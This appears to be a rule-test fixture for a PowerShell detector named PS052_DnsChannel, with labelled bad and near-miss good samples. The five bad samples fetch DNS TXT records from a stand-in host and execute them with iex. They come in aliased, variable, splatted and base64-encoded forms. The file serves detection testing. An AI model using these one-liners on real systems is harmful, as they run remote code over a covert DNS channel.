# file: bad1.ps1
# form: aliased
# ruleid: PS052_DnsChannel
Resolve-DnsName -Name a.example.org -Type TXT | ForEach-Object { iex $_.Strings }

# file: bad2.ps1
# form: aliased
# ruleid: PS052_DnsChannel
iex (nslookup -q=txt a.example.org)

# file: bad3.ps1
# form: variable
$kind = 'TXT'
# ruleid: PS052_DnsChannel
$text = Resolve-DnsName a.example.org -Type $kind
Invoke-Expression $text.Strings

# file: bad4.ps1
# form: aliased, splatted
$ask = @{ Name = 'a.example.org'; Type = 'TXT' }
# ruleid: PS052_DnsChannel
iex (Resolve-DnsName @ask).Strings

# file: bad5.ps1
# form: wrapped
# ruleid: PS052_DnsChannel
powershell -NoProfile -EncodedCommand UgBlAHMAbwBsAHYAZQAtAEQAbgBzAE4AYQBtAGUAIAAtAE4AYQBtAGUAIABhAC4AZQB4AGEAbQBwAGwAZQAuAG8AcgBnACAALQBUAHkAcABlACAAVABYAFQAIAB8ACAARgBvAHIARQBhAGMAaAAtAE8AYgBqAGUAYwB0ACAAewAgAGkAZQB4ACAAJABfAC4AUwB0AHIAaQBuAGcAcwAgAH0A

# file: good1.ps1
# form: near miss
# ok: PS052_DnsChannel
Resolve-DnsName example.org -Type A

# file: good2.ps1
# form: near miss
# ok: PS052_DnsChannel
Resolve-DnsName example.org -Type TXT

# file: good3.ps1
# form: near miss
# ok: PS052_DnsChannel
nslookup example.org
